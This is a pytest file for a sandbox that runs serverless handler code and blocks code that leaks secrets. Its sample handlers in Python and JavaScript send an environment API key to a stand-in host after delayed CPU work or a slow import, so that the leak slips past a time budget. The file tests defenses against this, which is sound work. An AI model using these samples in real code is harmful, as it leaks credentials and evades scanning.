"""A loaded machine must not change a detonation's verdict.

The attack: code that leaks late in its run (after a fixed amount of work) gets through when
the machine is busy, because a wall-clock budget then buys less work than on a quiet machine.
The same cause holds benign code whose import is slow for review. Each test loads the machine
on purpose (CPU-burning processes pinned to every core this test may use, at the detonation's
own priority) and detonates code that does a fixed amount of work measured on its own CPU
clock, so the samples mean the same on a fast and a slow machine. Nothing here is timed: the
assertions are verdicts.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from sless.validation.detonation import Detonation, detonate, unavailable
from sless.validation.report import Verdict

pytestmark = pytest.mark.skipif(unavailable() is not None, reason=str(unavailable()))

#: burners per core: with the other load a shared machine has, the sandbox gets a fraction
#: of a core, and a second of wall-clock time buys a fraction of a second of work
_BURNERS_PER_CORE = 2
#: the CPU seconds of work the samples do before they act (a third of the budget); they
#: leak over plain HTTP, so that the sink (not under the budget's accounting) has little to do
_WORK_S = 0.35


@pytest.fixture
def loaded_machine() -> Iterator[None]:
    taskset = shutil.which("taskset")
    if taskset is None:
        pytest.fail("taskset not found (util-linux)")
    burners = [
        # a session each: with autogroup scheduling, a session's processes share one slice,
        # and the detonation (a session of its own) would hardly feel burners in one session
        subprocess.Popen(
            [taskset, "-c", str(cpu), sys.executable, "-c", "while True: pass"],
            start_new_session=True,
        )
        for cpu in sorted(os.sched_getaffinity(0))
        for _ in range(_BURNERS_PER_CORE)
    ]
    try:
        yield
    finally:
        for burner in burners:
            burner.kill()
            burner.wait()


def _code(tmp_path: Path, files: dict[str, str]) -> Path:
    os.chmod(tmp_path, 0o755)
    for name, text in files.items():
        (tmp_path / name).write_text(text)
        os.chmod(tmp_path / name, 0o644)
    return tmp_path


#: the whole process's CPU clock: the twelve calls run at once and share it
_LATE_LEAK_PY = f"""\
import os, threading, time, urllib.request
_sent = threading.Lock()
def handle(event, context):
    while time.process_time() < {_WORK_S}:
        sum(range(1000))
    if _sent.acquire(blocking=False):
        urllib.request.urlopen(urllib.request.Request('http://stats.example.net/p',
            headers={{'x-trace': os.environ['STRIPE_API_KEY']}}, method='HEAD'), timeout=2)
"""

_LATE_LEAK_JS = f"""\
const http = require('http');
let sent = false;
exports.handle = async () => {{
  const spent = () => {{ const u = process.cpuUsage(); return (u.user + u.system) / 1e6; }};
  while (spent() < {_WORK_S}) {{ for (let i = 0; i < 1000; i++); }}
  if (sent) return 'ok';
  sent = true;
  await new Promise((resolve) => {{
    const req = http.request({{ host: 'stats.example.net', path: '/p', method: 'HEAD',
      headers: {{ 'x-trace': process.env.STRIPE_API_KEY }} }}, resolve);
    req.on('error', resolve);
    req.end();
  }});
  return 'ok';
}};
"""


@pytest.mark.parametrize(
    ("runtime", "name", "text"),
    [("python3.11", "handler.py", _LATE_LEAK_PY), ("nodejs20", "handler.js", _LATE_LEAK_JS)],
)
async def test_a_late_leak_is_caught_on_a_loaded_machine(
    tmp_path: Path, loaded_machine: None, runtime: str, name: str, text: str
) -> None:
    code = _code(tmp_path, {name: text})
    stage = await detonate(code, runtime, "handler.handle", Detonation(budget_s=1.0))
    assert stage.verdict is Verdict.REJECT, stage
    assert "detonation-canary-exfiltration" in {f.rule for f in stage.findings}


async def test_a_slow_benign_import_is_not_held_on_a_loaded_machine(
    tmp_path: Path, loaded_machine: None
) -> None:
    # the handler asks an API for rates (no secret): a note, which shows it was called
    code = _code(tmp_path, {"handler.py": (
        "import time, urllib.request\n"
        "TABLE = []\n"
        f"while time.process_time() < {_WORK_S}:\n"
        "    TABLE = [i * i for i in range(1000)]\n"
        "def handle(event, context):\n"
        "    urllib.request.urlopen('http://rates.example.com/latest', timeout=2)\n"
        "    return {'statusCode': 200, 'body': str(len(TABLE))}\n"
    )})  # fmt: skip
    stage = await detonate(code, "python3.11", "handler.handle", Detonation(budget_s=1.0))
    assert stage.status == "ok", stage
    assert stage.verdict is Verdict.ALLOW, stage.findings
    assert {f.rule for f in stage.findings} == {"detonation-undeclared-host"}, stage.findings


async def test_a_leak_after_a_slow_import_is_caught_on_a_loaded_machine(
    tmp_path: Path, loaded_machine: None
) -> None:
    # the import outlasting a wall-clock budget left the handler uncalled, and the
    # detonation said nothing: an import made slow on purpose hid what the handler does
    code = _code(tmp_path, {"handler.py": (
        "import os, time, urllib.request\n"
        f"while time.process_time() < {_WORK_S}:\n"
        "    sum(range(1000))\n"
        "def handle(event, context):\n"
        "    urllib.request.urlopen(urllib.request.Request('http://stats.example.net/p',\n"
        "        headers={'x-trace': os.environ['STRIPE_API_KEY']}, method='HEAD'), timeout=2)\n"
    )})  # fmt: skip
    stage = await detonate(code, "python3.11", "handler.handle", Detonation(budget_s=1.0))
    assert stage.verdict is Verdict.REJECT, stage
    assert "detonation-canary-exfiltration" in {f.rule for f in stage.findings}


async def test_an_import_that_outlasts_the_budget_is_held(tmp_path: Path) -> None:
    # however much time it is given, an import that never ends hides the handler
    code = _code(tmp_path, {"handler.py": (
        "while True:\n"
        "    sum(range(1000))\n"
        "def handle(event, context):\n"
        "    return 'ok'\n"
    )})  # fmt: skip
    stage = await detonate(code, "python3.11", "handler.handle", Detonation(budget_s=0.5))
    incomplete = [f for f in stage.findings if f.rule == "detonation-incomplete"]
    assert stage.verdict is Verdict.REVIEW, stage
    assert incomplete, stage
    assert incomplete[0].evidence == "the import was still running when the budget ended"
